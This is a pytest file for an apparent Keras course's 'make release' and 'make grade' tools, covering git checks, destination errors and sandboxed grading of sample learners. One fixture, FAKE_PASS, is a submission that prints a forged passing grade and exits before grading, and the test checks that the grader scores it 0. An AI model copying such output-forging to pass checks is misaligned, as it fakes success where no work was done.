    """A git repository holding the solutions, `change(solutions folder)` done to them and committed: what make
    release reads before it writes anything."""
    solutions = folder / release.SOLUTIONS
    solutions.mkdir(parents=True)
    for exercise in EXERCISES:
        (solutions / exercise.solution_path.name).write_bytes(exercise.solution_path.read_bytes())
    change(solutions)
    git = {"cwd": folder, "check": True, "capture_output": True}
    subprocess.run(["git", "init", "-q"], **git)
    subprocess.run(["git", "add", "--all"], **git)
    subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@example.invalid", "commit", "-q", "-m", "one"],
                   **git)
    return folder


@pytest.mark.parametrize("change, said", [
    (lambda solutions: (solutions / "ex03_keras_basics.py").unlink(),
     "the solution {path} is missing, and git does not track it (its deletion committed?); make release cuts ex03's "
     "exercise from it: restore it from the commit before its deletion (`git log -- {path}` names it)"),
    (lambda solutions: (solutions / "ex03_keras_basics.py").write_bytes(b"# caf\xe9\n"),
     "the solution {path} is not UTF-8 text (byte 0xe9 at offset 5): save it as UTF-8"),
    (lambda solutions: (solutions / "ex03_keras_basics.py").write_text(f"{BEGIN}\nx = 1\n", encoding="utf-8"),
     f"{{path}}:1: {BEGIN} is never closed by {END}"),
], ids=["deletion-committed", "not-utf8", "unclosed-block"])
def test_make_release_with_a_solution_it_cannot_cut_refuses_in_one_line_and_writes_nothing(
        change, said, tmp_path, monkeypatch, capsys):
    """A solution whose deletion was committed, or that cannot be read or cut: one line naming it, before writing. A
    block never closed stopped make release half way through the copy, its line saying nothing of the files
    written; a solution not UTF-8 said "'utf-8' codec can't decode byte 0xe9 in position 5", naming no file."""
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", os.devnull)
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
    monkeypatch.setattr(release, "REPO", a_repository_of_the_solutions(tmp_path / "repository", change))
    copy = tmp_path / "copy"
    assert release.main([str(copy)]) == 2
    path = (release.SOLUTIONS / "ex03_keras_basics.py").as_posix()
    assert capsys.readouterr() == ("", f"error: {said.format(path=path)} (nothing was written)\n")
    assert not copy.exists()


def test_make_release_copies_and_names_tracked_files_whose_names_are_not_utf8(instructor_copy, tmp_path, monkeypatch,
                                                                              capsys):
    """A file named in Latin-1 (unzipped from an old archive: git keeps a name's bytes as they are) made make release
    stop at "error: 'utf-8' codec can't decode byte 0xe9 in position 9", naming no file, and wrote nothing. The name
    is the file system's (os.fsdecode), copied and committed as it is, and shown with the byte escaped."""
    dest, _ = instructor_copy
    added, gone, untracked = (dest / os.fsdecode(f"{stem}_caf\xe9.txt".encode("latin-1"))
                              for stem in ("added", "gone", "untracked"))
    copy = tmp_path / "copy"
    monkeypatch.setattr(release, "REPO", dest)
    try:
        for path in (added, gone, untracked):
            path.write_bytes(b"latin-1\n")
        subprocess.run(["git", "add", "--", added.name, gone.name], cwd=dest, check=True)
        gone.unlink()
        assert Path(untracked.name) in release.untracked_files()
        assert release.main([str(copy)]) == 0
    finally:
        subprocess.run(["git", "rm", "-q", "--cached", "--", added.name, gone.name], cwd=dest, check=True)
        for path in (added, gone, untracked):
            path.unlink(missing_ok=True)
    out = capsys.readouterr().out.splitlines()
    assert ("copied 1 file with changes not committed here, as they are on disk (commit them so that the copy's "
            "commit names them): added_caf\\xe9.txt") in out
    assert ("left out 1 tracked file deleted here, not committed (restore it to include it, or commit its deletion): "
            "gone_caf\\xe9.txt") in out
    assert release.left_out_line([Path(untracked.name)]).endswith(": untracked_caf\\xe9.txt")
    assert (copy / added.name).read_bytes() == b"latin-1\n" and not (copy / untracked.name).exists()
    committed = subprocess.run(["git", "ls-files", "-z"], cwd=copy, capture_output=True, check=True).stdout
    assert b"added_caf\xe9.txt" in committed.split(b"\0")
    message = subprocess.run(["git", "log", "--format=%B"], cwd=copy, capture_output=True, check=True).stdout
    assert b"    added_caf\\xe9.txt\n" in message and b"    gone_caf\\xe9.txt\n" in message     # UTF-8 text, escaped


@pytest.mark.parametrize("commits", [0, 1], ids=["no-commit-yet", "after-a-commit"])
def test_a_file_staged_then_deleted_on_disk_is_named_as_left_out_before_the_first_commit_too(commits, tmp_path,
                                                                                            monkeypatch):
    """A new file added (git add), not committed, then deleted on disk is tracked -- in the index, not in the last
    commit -- so `git diff HEAD` does not name it (and fails outright before the first commit): only `git ls-files
    --cached` finds it among the tracked files the copy cannot hold."""
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", os.devnull)
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
    git = {"cwd": tmp_path, "check": True, "capture_output": True}
    subprocess.run(["git", "init", "-q"], **git)
    (tmp_path / "kept.txt").write_text("kept\n", encoding="utf-8")
    subprocess.run(["git", "add", "kept.txt"], **git)
    if commits:
        subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@example.invalid", "commit", "-q", "-m", "one"],
                       **git)
    (tmp_path / "notes.txt").write_text("staged, then deleted\n", encoding="utf-8")
    subprocess.run(["git", "add", "notes.txt"], **git)
    (tmp_path / "notes.txt").unlink()
    monkeypatch.setattr(release, "REPO", tmp_path)
    assert release.deleted_files() == [Path("notes.txt")]


def test_the_learner_copys_gitignore_ignores_all_the_project_ignores_but_the_learners_work():
    """Only the lines that ignore the learner's files and notebooks (and their comments) go; every other pattern
    stays a line of its own -- the note added at the end once took the place of the last line's line end, and
    `.virtual_documents/# Learner copy...` ignored nothing."""
    project = (REPO / ".gitignore").read_text(encoding="utf-8").splitlines()
    copy = release._learner_gitignore((REPO / ".gitignore").read_text(encoding="utf-8")).splitlines()
    kept = [line for line in project if line.strip() and not line.startswith("#")
            and line not in ("keras_models/course/exercises/ex[0-9][0-9]_*.py", "keras_models/course/notebooks/")]
    assert [line for line in copy if line in kept] == kept and len(kept) < len(project) - 2
    assert copy[-1].startswith("# Learner copy")


def test_the_learner_copys_gitignore_drops_the_whole_comment_block_above_each_line_it_drops():
    """A comment block of two lines above the learner's files (as in .gitignore): its first line stayed, saying that
    git ignores what the copy tracks. The line below another comment keeps that comment."""
    given = ("logs/*\n# The learner's exercise files: written from the solutions\n# by make setup.\n"
             "keras_models/course/exercises/ex[0-9][0-9]_*.py\n# What was written in them.\n"
             "keras_models/course/exercises/.as_written.json\n# The notebooks.\nkeras_models/course/notebooks/\n")
    assert release._learner_gitignore(given) == (
        "logs/*\n# What was written in them.\nkeras_models/course/exercises/.as_written.json\n"
        "# Learner copy: your exercise files and notebooks are tracked: commit them.\n")


def test_a_copy_made_from_a_repository_with_no_commit_yet_says_so_in_its_commit(tmp_path, monkeypatch):
    """An instructor who added the course to a new repository and has not committed: no HEAD to name."""
    source, dest = tmp_path / "source", tmp_path / "copy"
    subprocess.run(["git", "init", "-q", str(source)], check=True)
    dest.mkdir()
    (dest / "README.md").write_text("read me\n", encoding="utf-8")
    monkeypatch.setattr(release, "REPO", source)
    assert release.uncommitted_files() == []                        # nothing to compare with: not an error
    release._commit(dest, "learner")
    subject = subprocess.run(["git", "log", "--format=%s"], cwd=dest, capture_output=True, text=True, check=True)
    assert subject.stdout == ("Learner copy, made by make release from a repository with no commit yet (the files git "
                              "tracks there, as they were on disk)\n")


def test_make_release_where_git_cannot_be_run_says_to_install_it_and_writes_nothing(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("PATH", str(tmp_path / "bin"))                # no git on it
    dest = tmp_path / "copy"
    assert release.main([str(dest)]) == 2
    assert capsys.readouterr() == ("", "error: make release copies the files git tracks, and git cannot be run here "
                                       "(No such file or directory): install git\n")
    assert not dest.exists()


def only_a_git_folder(tmp_path: Path) -> Path:
    """A clone of a new, empty repository (a GitHub Classroom template made first): it holds .git/ alone."""
    subprocess.run(["git", "init", "-q", str(tmp_path / "clone")], check=True)
    return tmp_path / "clone"


def test_make_release_refuses_a_destination_inside_the_repository_through_a_link_or_a_relative_path(
        tmp_path, monkeypatch, capsys):
    (tmp_path / "link").symlink_to(REPO)
    monkeypatch.chdir(tmp_path)
    inside = Path("logs", f"release-{tmp_path.name}")            # a name of this run's: nothing of the repository's
    try:
        for dest in (tmp_path / "link" / inside, Path("link") / inside):
            assert release.main([str(dest)]) == 2
            assert capsys.readouterr().err == (f"error: DEST={dest} is inside this repository: choose a folder "
                                               "outside it\n")
        assert not (REPO / inside).exists()
    finally:                                                     # what a release that was not refused wrote
        shutil.rmtree(REPO / inside, ignore_errors=True)


@pytest.mark.parametrize("where, message", [
    (lambda tmp_path: REPO / "logs" / "release-here", "is inside this repository: choose a folder outside it"),
    (lambda tmp_path: tmp_path, "is not empty: choose a new folder (nothing was written)"),
    (lambda tmp_path: tmp_path / "mine.txt", "is a file: choose a new folder"),
    (only_a_git_folder, "is not empty: choose a new folder (nothing was written)"),
], ids=["inside", "not-empty", "a-file", "only-a-git-folder"])
def test_make_release_refuses_a_destination_in_one_line(where, message, tmp_path, capsys):
    dest = where(tmp_path)
    (tmp_path / "mine.txt").write_text("keep me")
    assert release.main([str(dest)]) == 2
    out, err = capsys.readouterr()
    assert out == "" and err == f"error: DEST={dest} {message}\n"
    assert not (REPO / "logs" / "release-here").exists()                  # nothing made inside the repository
    assert (tmp_path / "mine.txt").read_text() == "keep me"


def test_make_release_into_a_folder_that_cannot_be_written_is_one_line_naming_it_and_what_to_do(tmp_path, capsys,
                                                                                                monkeypatch):
    """DEST inside a folder that may not be written in said "error: DEST: Permission denied" (an empty one that
    may not be written in: "error: DEST/.gitattributes: Permission denied"), and nothing of what to do."""
    read_only, file = tmp_path / "read-only", tmp_path / "mine.txt"
    read_only.mkdir()
    file.write_text("keep me")
    as_for_a_learner(monkeypatch, read_only, read_only=True)
    for dest, why in [(read_only / "course", f"cannot be created in {read_only} (permission denied or a read-only file "
                                             f"system): make {read_only} a folder you can write in"),
                      (read_only, f"cannot be written (permission denied or a read-only file system): make "
                                  f"{read_only} a folder you can write in"),
                      (file / "course", f"is inside {file}, which is a file: rename or remove that file")]:
        assert release.main([str(dest)]) == 2
        assert capsys.readouterr() == ("", f"error: DEST={dest} {why}, or give another folder (nothing was "
                                           "written)\n")
    assert list(read_only.iterdir()) == []


def advice_restores_after_git_rm(clone: Path, message: str, path: str) -> None:
    """The `git ...` that `message` ends with, typed in a new clone at `clone` where `git rm` took the course's file
    `path` (relative to the repository), brings back its committed bytes (conftest's restore_as_advised)."""
    shipped = (REPO / path).read_bytes()
    lose_committed(clone, clone / path, shipped, "git rm")
    restore_as_advised(clone, message, clone / path, shipped)


def test_make_release_with_a_grader_file_missing_is_one_line_and_writes_nothing(tmp_path, monkeypatch, capsys):
    """The Classroom files name each exercise by its grader's TITLE: with graders/ex03.py gone (the graders' package
    looks in a folder without it) make release ended in a traceback, half the copy written. The advice, typed in a
    clone where `git rm` took the file, brings it back."""
    from keras_models.course.exercises import graders

    for exercise in EXERCISES:                                     # the others are there, loaded before the patch
        exercise.grader                                             # noqa: B018
    monkeypatch.setattr(graders, "__path__", [str(tmp_path / "graders")])
    monkeypatch.delitem(sys.modules, f"{graders.__name__}.ex03", raising=False)
    dest = tmp_path / "copy"
    assert release.main([str(dest)]) == 1
    path = "keras_models/course/exercises/graders/ex03.py"
    out, err = capsys.readouterr()
    assert (out, err) == ("", f"error: the grader {path} is missing, a file of the course's, not the code graded: "
                              f"restore it with `git checkout HEAD -- {path}` (nothing was written)\n")
    assert not dest.exists()
    advice_restores_after_git_rm(tmp_path / "clone", err, path)


@pytest.mark.parametrize("command, variable, run", [
    ("make release", "DEST", lambda folder: release.main([folder])),
    ("make grade", "SUBMISSIONS", lambda folder: grade_class.main([folder])),
], ids=["release", "grade"])
def test_a_folder_starting_with_an_unexpanded_tilde_is_one_line_not_a_folder_named_tilde(command, variable, run,
                                                                                          tmp_path, monkeypatch,
                                                                                          capsys):
    """make release DEST=~/out from sh or zsh (macOS), which leave ~ after = as it is: "DEST=~/out is inside this
    repository", and make grade SUBMISSIONS=~/class: "the submissions folder ~/class does not exist". make train and
    make lessons already said what happened."""
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.chdir(tmp_path)
    assert run("~/class") == 2
    assert capsys.readouterr() == ("", f"error: {variable}=~/class starts with ~, which the shell did not expand (it "
                                       f"names a folder called ~ here); write the full path, e.g. {command} "
                                       f"{variable}={tmp_path / 'class'}\n")
    assert list(tmp_path.iterdir()) == []


def test_an_unexpanded_tilde_user_path_names_the_folder_called_tilde_user_and_that_users_home(tmp_path,
                                                                                               monkeypatch, capsys):
    """DEST=~ann/out names a folder called ~ann here, not "a folder called ~"; the example is ann's home where this
    system knows ann, and a stand-in where it does not."""
    import pwd

    me = pwd.getpwuid(os.getuid())
    monkeypatch.chdir(tmp_path)
    for folder, example in [(f"~{me.pw_name}/out", str(Path(me.pw_dir) / "out")),
                            ("~no-such-user-here/out", "/full/path")]:
        assert release.main([folder]) == 2
        named = folder.split("/")[0]
        assert capsys.readouterr() == ("", f"error: DEST={folder} starts with ~, which the shell did not expand (it "
                                           f"names a folder called {named} here); write the full path, e.g. make "
                                           f"release DEST={example}\n")
    assert list(tmp_path.iterdir()) == []


def test_make_release_on_a_full_disk_names_the_file_it_was_writing_and_the_unfinished_copy(tmp_path, monkeypatch,
                                                                                            capsys):
    """DEST on a full disk said "error: <repo>/data/breast_cancer.csv: No space left on device", the source, and left
    a half copy that the next make release DEST=... refused as "not empty ... (nothing was written)"."""
    writing = []

    def full_disk(source, target):                  # the first file fits; the second is shutil's ENOSPC
        writing.append(target)
        Path(target).write_bytes(b"")
        if len(writing) == 2:
            error = OSError(errno.ENOSPC, "No space left on device")
            error.filename, error.filename2 = str(source), str(target)      # as shutil's sendfile copy names them
            raise error

    monkeypatch.setattr(release.shutil, "copyfile", full_disk)
    dest = tmp_path / "class copy"
    assert release.main([str(dest)]) == 1
    assert capsys.readouterr().err == (f"error: {writing[1]}: No space left on device; {dest} holds an unfinished "
                                       f"copy: remove it (rm -rf '{dest}'), then make release again\n")


@pytest.mark.parametrize("existing", [True, False], ids=["empty-folder", "new-folder"])
def test_make_release_stopped_before_writing_a_file_leaves_an_empty_dest_and_no_advice_to_remove_it(
        existing, tmp_path, monkeypatch, capsys):
    """A disk so full that the first file cannot even be created leaves DEST empty, which make release takes (it
    "must not exist or be empty"): the line says what failed and no more -- no "remove it" for a folder the next
    make release writes into, as it then does."""
    dest = tmp_path / "class copy"
    if existing:
        dest.mkdir()
    writing = []

    def full_disk(source, target):                  # open(target, "wb") refused: nothing created
        writing.append(target)
        raise OSError(errno.ENOSPC, "No space left on device", str(target))

    monkeypatch.setattr(release.shutil, "copyfile", full_disk)
    assert release.main([str(dest)]) == 1
    assert capsys.readouterr().err == f"error: {writing[0]}: No space left on device\n"
    assert len(writing) == 1 and dest.is_dir() and list(dest.iterdir()) == []
    assert Path(writing[0]).parent == dest                  # the first file copied is at the top: no folder made
    monkeypatch.undo()                              # room again: the same command writes the copy
    assert release.main([str(dest)]) == 0
    assert capsys.readouterr().out.splitlines()[-2].startswith(f"wrote the learner copy (no solutions, no tests) "
                                                                f"to {dest}: ")


def test_make_release_into_a_closed_pipe_is_one_line_and_the_copy_is_whole(tmp_path, monkeypatch, capsys):
    # `make release DEST=dir | head -1`: its last lines met the closed pipe outside main's try: a traceback
    monkeypatch.setattr(release, "release", lambda *arguments: {"files": 1, "notebooks": 0})
    monkeypatch.setattr(release, "uncommitted_files", list)
    monkeypatch.setattr(release, "untracked_files", list)
    with closed_pipe() as stdout:
        assert release.main([str(tmp_path / "out")]) == 1
        assert capsys.readouterr().err == output_closed("make release")
        stdout.close()              # flushes, as Python does at exit: no "Exception ignored ... BrokenPipeError"


def test_make_release_into_an_output_that_takes_no_more_is_one_line_not_a_traceback(tmp_path, monkeypatch, capsys):
    # `make release DEST=dir > /dev/full` (or into a file on a full disk): OSError ENOSPC from its last lines
    monkeypatch.setattr(release, "release", lambda *arguments: {"files": 1, "notebooks": 0})
    monkeypatch.setattr(release, "uncommitted_files", list)
    monkeypatch.setattr(release, "untracked_files", list)
    with dev_full() as stdout:  # every write is ENOSPC
        assert release.main([str(tmp_path / "out")]) == 1
        assert capsys.readouterr().err == ("error: the output of make release could not be written: No space left on "
                                           "device (the disk it goes to is full?)\n")
        stdout.close()              # flushes, as Python does at exit: nothing left to fail


def test_make_release_in_a_learner_copy_says_in_one_line_that_it_has_no_solutions(tmp_path, monkeypatch, capsys):
    subprocess.run(["git", "init", "-q", str(tmp_path / "learner")], check=True)
    monkeypatch.setattr(release, "REPO", tmp_path / "learner")     # a learner copy: no exercises/solutions/
    assert release.main([str(tmp_path / "out")]) == 2
    out, err = capsys.readouterr()
    assert out == "" and err == ("error: this learner copy has no keras_models/course/exercises/solutions/ to cut the "
                                 "exercises from: run make release in the instructor's copy (make release DEST=dir "
                                 "WITH_SOLUTIONS=1 made it)\n")
    assert not (tmp_path / "out").exists()


def test_make_release_outside_a_clone_git_refuses_says_what_git_said(tmp_path, monkeypatch):
    """Run by another user than the clone's owner (sudo), git refuses a clone ("detected dubious ownership"):
    "run it in a git clone" alone sent the instructor looking for a clone they were in."""
    monkeypatch.setattr(release, "REPO", tmp_path)                    # no repository at all: git refuses it too
    with pytest.raises(ValueError) as refused:
        release.project_files()
    assert str(refused.value).startswith("make release copies the files git tracks: run it in a git clone of the "
                                         "project (git said: fatal: not a git repository")


@ROOT_ONLY
def test_make_release_lists_a_checkout_that_git_trusts_through_the_instructors_global_config(tmp_path, monkeypatch):
    """A clone another user owns is one git refuses ("detected dubious ownership") unless a safe.directory, maybe in
    GIT_CONFIG_GLOBAL, trusts it: make release keeps that variable, as make mutants does (twins/git_files.py drops only
    the ones that point git at another repository)."""
    monkeypatch.setattr(release, "REPO", a_clone_another_user_owns(tmp_path / "source", monkeypatch))
    assert release.project_files() == [Path("scratch", "a.py")]


def test_make_release_gives_each_file_the_mode_a_git_checkout_would_not_the_checkouts_own(tmp_path):
    """From a checkout made read-only (chmod -R a-w), the copy's files were read-only too: as an instructor who is not
    root, make release then stopped at "<dest>/.github/classroom/autograding.json: Permission denied" with the copy
    half made. Like git, a copy keeps only whether a file is executable; the rest is the umask's."""
    source, dest = tmp_path / "source", tmp_path / "dest"
    source.mkdir()
    (source / "README.md").write_text("read me\n", encoding="utf-8")
    (source / "run").write_text("#!/bin/sh\n", encoding="utf-8")
    (source / "README.md").chmod(0o444)
    (source / "run").chmod(0o500)
    umask = os.umask(0o022)
    try:
        for name in ("README.md", "run"):
            release._copy(source / name, dest / name)
    finally:
        os.umask(umask)
    assert {p.name: stat.S_IMODE(p.stat().st_mode) for p in dest.iterdir()} == {"README.md": 0o644, "run": 0o755}
    assert (dest / "README.md").read_text(encoding="utf-8") == "read me\n"


def test_make_release_copies_only_the_files_git_tracks_and_names_the_others(tmp_path, monkeypatch):
    """An instructor's untracked files (an answer key, a learner's solved exercise, the class's grades) are not
    the course: they stay out of the copy, and are named so that a forgotten `git add` is noticed."""
    subprocess.run(["git", "init", "-q"], cwd=tmp_path, check=True)
    for name in (".gitignore", "Makefile", *UNTRACKED, "logs/run.txt"):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text("logs/\n" if name == ".gitignore" else name, encoding="utf-8")
    subprocess.run(["git", "add", ".gitignore", "Makefile"], cwd=tmp_path, check=True)
    monkeypatch.setattr(release, "REPO", tmp_path)
    assert release.project_files() == [Path(".gitignore"), Path("Makefile")]
    assert release.untracked_files() == [Path(name) for name in UNTRACKED]          # logs/ is ignored: not named
    assert release.left_out_line(release.untracked_files()) == (
        "left out 3 files git does not track (commit them to include them): my_answer_key.py, "
        "submissions/alice/ex01_perceptron_activations.py, submissions/grades.csv")
    many = [Path(f"submissions/learner{i}/ex01.py") for i in range(9)]
    assert release.left_out_line(many).endswith(": submissions/learner0/ex01.py, submissions/learner1/ex01.py, "
                                                "submissions/learner2/ex01.py and 6 more")
    assert release.left_out_line([Path("key.py")]) == ("left out 1 file git does not track (commit them to include "
                                                       "them): key.py")
    assert release.left_out_line([]) == ""


# --- make grade ------------------------------------------------------------------------------------------

# make grade's summary lines count with counted(): "1 learner", "2 learners" -- and "0 learners", which a rule that
# gave "s" only above 1 wrote as "0 learner" (the graded classes below count 1 and 2 or more, never 0). The words it
# is used with, written out here by hand.
@pytest.mark.parametrize("thing, none, one, two", [
    ("learner", "0 learners", "1 learner", "2 learners"),
    ("exercise", "0 exercises", "1 exercise", "2 exercises"),
    ("core", "0 cores", "1 core", "2 cores"),
    ("grade", "0 grades", "1 grade", "2 grades"),
    ("total", "0 totals", "1 total", "2 totals"),
    ("folder", "0 folders", "1 folder", "2 folders"),
    ("exercise file", "0 exercise files", "1 exercise file", "2 exercise files"),
])
def test_counted_says_0_1_and_2_of_each_thing_make_grade_counts(thing, none, one, two):
    assert (counted(0, thing), counted(1, thing), counted(2, thing)) == (none, one, two)


LOOP = "while True:\n    pass\n"
SLEEP = "import time\nwhile True:\n    time.sleep(1)\n"
RAISES = "raise RuntimeError('broken at import')\n"
FAKE_PASS = ("print('  ex01  perceptron, activations, one-layer network     PASS    0.0 s')\n"
             "print('ex01  PASS  10 of 10')\nimport os\nos._exit(0)\n")


@pytest.fixture(scope="module")
def graded_class(tmp_path_factory, python_with_tensorflow):
    """`make grade` on a class of seven, two exercises, a 1 s limit of CPU (a solution here needs at most 0.2 s)
    and 8 s of wall clock: (folder, exit status, stdout, stderr).

    8 s is the wall clock grade_class gives 1 s of CPU by default (sandbox.wall_limit: 3 x 1 s + 5 s). cy's endless
    loop must use its 1 s of CPU before the wall clock runs out to be stopped by the CPU limit; with 4 s it needed a
    quarter of a core, which a loaded `make test` did not always give it (the kernel shares the CPU between sessions,
    and each graded child is a session of its own): it got "did not finish within 4 s" instead."""
    ex01, ex02 = find("ex01"), find("ex02")
    solved = {e: e.solution_path.read_text(encoding="utf-8") for e in (ex01, ex02)}
    untouched = {e: skeleton_of(e.solution_path) for e in (ex01, ex02)}
    folder = tmp_path_factory.mktemp("class")
    learners = {
        # abe sleeps forever; sorted first, he is graded first, so his wait for the wall-clock limit (8 s)
        # overlaps the other gradings instead of following them
        "abe": {f"{ex01.stem}.py": SLEEP},
        "ada": {f"{ex01.stem}.py": solved[ex01], f"{ex02.stem}.ipynb": _notebook(solved[ex02])},
        "bo": {f"{ex01.stem}.py": untouched[ex01], f"{ex02.stem}.py": untouched[ex02]},
        "cy": {f"{ex01.stem}.py": LOOP, f"{ex02.stem}.py": solved[ex02]},
        "di": {f"keras_models/course/exercises/{ex01.stem}.py": solved[ex01], f"{ex02.stem}.py": RAISES},
        "ed": {f"{ex01.stem}.py": FAKE_PASS},
        # both versions of each: ex01 solved in the notebook only; ex02 solved in both, saved together
        "fay": {f"{ex01.stem}.py": untouched[ex01], f"{ex01.stem}.ipynb": _notebook(solved[ex01]),
                f"{ex02.stem}.py": solved[ex02], f"{ex02.stem}.ipynb": _notebook(solved[ex02])},
    }
    write_class(folder, learners)
    # what `make grade SUBMISSIONS=... ONLY=ex01,ex02 TIME_LIMIT=1 WALL_LIMIT=8 JOBS=2` runs (test_makefile.py checks
    # that it does), forked from the warm Python: TensorFlow is imported once for the session
    # (a guard, stretched by the load: on a machine loaded 6 per core it took some 190 s of a fixed 300)
    with at_most(300, "make grade of the class of seven"):
        done = python_with_tensorflow.run([sys.executable, "-m", "keras_models.course.instructor.grade_class",
                                           str(folder), "--only", "ex01,ex02", "--time-limit", "1", "--wall-limit", "8",
                                           "--jobs", "2"], cwd=REPO, capture_output=True, text=True)
    return folder, done.returncode, done.stdout, done.stderr


def _notebook(source: str) -> str:
    import jupytext

    return nbformat.writes(jupytext.reads(source, fmt="py:percent"))


def test_make_grade_scores_each_exercise_alone_and_writes_grades_csv(graded_class):
    folder, status, out, err = graded_class
    assert status == 0, err
    rows = read_csv(folder / "grades.csv")
    assert rows == [["learner", "ex01 (/10)", "ex02 (/15)", "total (/25)"],   # (the reasons: the next test)
                    ["abe", "0", "0", "0"],           # ex01 sleeps forever: the wall-clock limit; no ex02
                    ["ada", "10", "15", "25"],        # solved (ex02 handed in as a notebook)
                    ["bo", "0", "0", "0"],            # untouched
                    ["cy", "0", "15", "15"],          # ex01 loops: 0 for ex01 only
                    ["di", "10", "0", "10"],          # ex02 raises at import: 0 for ex02 only (ex01: release layout)
                    ["ed", "0", "0", "0"],            # prints a fake PASS, then leaves; no ex02
                    ["fay", "10", "15", "25"]]        # a .py and a notebook of each: the one holding the work
    lines = out.splitlines()
    assert lines[0] == "grading 7 learners x 2 exercises (1 s of CPU each, 2 at a time)", out
    table_lines = [line.split() for line in lines[lines.index(next(l for l in lines if l.startswith("learner"))):][:9]]
    assert table_lines[0] == ["learner", "ex01", "ex02", "total"], out
    assert table_lines[-1] == ["out", "of", "10", "15", "25"], out
    assert table_lines[1:-1] == rows[1:], out


def test_make_grade_gives_a_one_line_reason_for_each_zero(graded_class):
    folder, _, out, _ = graded_class
    with open(folder / "grades_reasons.csv", newline="", encoding="utf-8") as reasons:
        why = {(row["learner"], row["exercise"]): row["reason"] for row in csv.DictReader(reasons)}
    assert why[("bo", "ex01")] == "not done yet: fill in the TODO in Perceptron1D.run"
    # an endless loop is stopped by its CPU limit (1 s); sleeping forever uses no CPU: the wall clock
    # (WALL_LIMIT=8 s) stops it; each is told the line it was running
    assert re.fullmatch(r"used more than 1 s of CPU time \(time limit\) -- it was running line [12] of "
                        r"ex01_perceptron_activations\.py, at the top level of the file", why[("cy", "ex01")])
    assert why[("di", "ex02")] == ("your code raised RuntimeError in the top level of the file (line 1 of "
                                   "ex02_backprop.py): broken at import")
    assert why[("ed", "ex01")] == "stopped before the grader gave a verdict (exit status 0)"
    assert why[("ed", "ex02")] == "missing: no ex02_backprop.py or .ipynb"
    assert re.fullmatch(r"did not finish within 8 s of wall-clock time \(wall limit; it had used 0(\.\d)? s of CPU\) "
                        r"-- it was running line 3 of ex01_perceptron_activations\.py, at the top level of the file",
                        why[("abe", "ex01")]), why[("abe", "ex01")]       # (sleeping, it uses well under 1 s)
    assert why[("ada", "ex02")].startswith("BP1-BP4 and gradients() match tf.GradientTape")
    for (learner, exercise), reason in why.items():
        if not reason.startswith(("BP1", "Perceptron1D, Perceptron")):
            assert f"  {learner:<7}  {exercise}  {reason}" in out


def test_grades_reasons_csv_names_the_file_graded_and_which_of_two_versions_counted(graded_class):
    folder = graded_class[0]
    header, *rows = read_csv(folder / "grades_reasons.csv")
    assert header == ["learner", "exercise", "file", "points", "reason"]
    ex01, ex02 = find("ex01").stem, find("ex02").stem
    assert {(learner, exercise): file for learner, exercise, file, _, _ in rows} == {
        ("abe", "ex01"): f"{ex01}.py", ("abe", "ex02"): "",                       # "": none was found
        ("ada", "ex01"): f"{ex01}.py", ("ada", "ex02"): f"{ex02}.ipynb",
        ("bo", "ex01"): f"{ex01}.py", ("bo", "ex02"): f"{ex02}.py",
        ("cy", "ex01"): f"{ex01}.py", ("cy", "ex02"): f"{ex02}.py",
        ("di", "ex01"): f"keras_models/course/exercises/{ex01}.py", ("di", "ex02"): f"{ex02}.py",   # a clone's
        ("ed", "ex01"): f"{ex01}.py", ("ed", "ex02"): "",
        ("fay", "ex01"): f"{ex01}.ipynb", ("fay", "ex02"): f"{ex02}.py"}
    why = {(learner, exercise): reason for learner, exercise, _, _, reason in rows}
    # with both versions, the reason says which one counted, and why when version_to_grade gives a reason
    assert why[("fay", "ex01")].endswith(f" (graded {ex01}.ipynb, not the .py: it has fewer TODOs left than "
                                         f"{ex01}.py)")
    assert why[("fay", "ex02")].endswith(f" (graded {ex02}.py, not the notebook)")
    assert [key for key, reason in why.items() if "(graded " in reason] == [("fay", "ex01"), ("fay", "ex02")]


def test_the_classroom_command_passes_a_solution_and_fails_a_skeleton(tmp_path):
    ex01 = find("ex01")
    command = shlex.split(classroom.autograding()["tests"][0]["run"])
    assert command[:2] == ["exec", ".venv/bin/python"]
    command = command[1:]
    for text, status, verdict in [(ex01.solution_path.read_text(encoding="utf-8"), 0, "ex01  PASS   10 of 10  "),
                                  (skeleton_of(ex01.solution_path), 1, "ex01  FAIL    0 of 10  not done yet: ")]:
        learner = tmp_path / f"learner{status}"               # (a folder named keras_models/ here would hide
        learner.mkdir()                                          # the package from `-m`: files at the top)
        (learner / f"{ex01.stem}.py").write_text(text, encoding="utf-8")
        done = subprocess.run([sys.executable, *command[1:]], cwd=learner, capture_output=True, text=True, timeout=120)
        assert done.returncode == status, done.stderr
        assert done.stdout.startswith(verdict), done.stdout


def test_the_learner_command_over_several_exercises_exits_0_only_when_every_one_passed(capsys):
    # --learner without --only grades every exercise: one PASS among FAILs is not a PASS
    ex01, ex02 = find("ex01"), find("ex02")
    passed, missing = gradebook.Grade("ex01.py", ex01.points, "matches"), gradebook.Grade("", 0, "missing: no file")
    assert grade_class._report_one([ex01, ex02], {"ex01": passed, "ex02": missing}) == 1
    assert grade_class._report_one([ex01], {"ex01": passed}) == 0
    assert capsys.readouterr().out.splitlines()[1] == "ex02  FAIL    0 of 15  missing: no file"


def test_make_grade_gives_each_exercise_the_cpu_time_its_help_names_by_default(tmp_path, monkeypatch, capsys):
    # the default lives in grade_class; `make help` and the usage line tell the instructor TIME_LIMIT=120
    (tmp_path / "alice").mkdir()
    given = {}

    def grade_learners(learners, exercises, time_limit, jobs, wall_seconds=None, kept=None):
        given.update(time_limit=time_limit, wall_seconds=wall_seconds)
        return none_graded(learners, exercises, time_limit, jobs)

    monkeypatch.setattr(grade_class, "grade_learners", grade_learners)
    assert grade_class.main([str(tmp_path), "--only", "ex01"]) == 0
    helped = (REPO / "Makefile").read_text(encoding="utf-8").split("\ngrade: ", 1)[1].split("\n", 1)[0]
    assert f"TIME_LIMIT={given['time_limit']} " in helped and given["wall_seconds"] is None, (given, helped)
    assert f"({given['time_limit']} s of CPU each" in capsys.readouterr().out


